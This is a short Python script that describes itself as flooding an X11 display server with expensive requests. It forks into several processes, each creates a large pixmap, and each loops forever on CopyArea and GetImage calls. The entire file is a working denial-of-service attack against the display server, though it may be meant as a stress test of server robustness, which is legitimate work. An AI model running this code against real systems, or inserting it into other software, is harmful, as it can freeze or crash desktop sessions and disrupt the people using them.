"""Floods the display with requests, over many connections, that each cost the server much."""

import os

import xcffib.xproto as xp
from window import Window

for _ in range(4):
    if os.fork() == 0:
        break
window = Window()
context, far = window.x.generate_id(), window.x.generate_id()
window.core.CreatePixmap(24, far, window.root, 2000, 2000)
window.core.CreateGC(context, far, 0, [])
while True:
    for _ in range(20):
        window.core.CopyArea(far, far, context, 0, 0, 1, 1, 1999, 1999)
        window.core.GetImage(xp.ImageFormat.ZPixmap, far, 0, 0, 500, 500, 0xFFFFFFFF)
    window.sync()
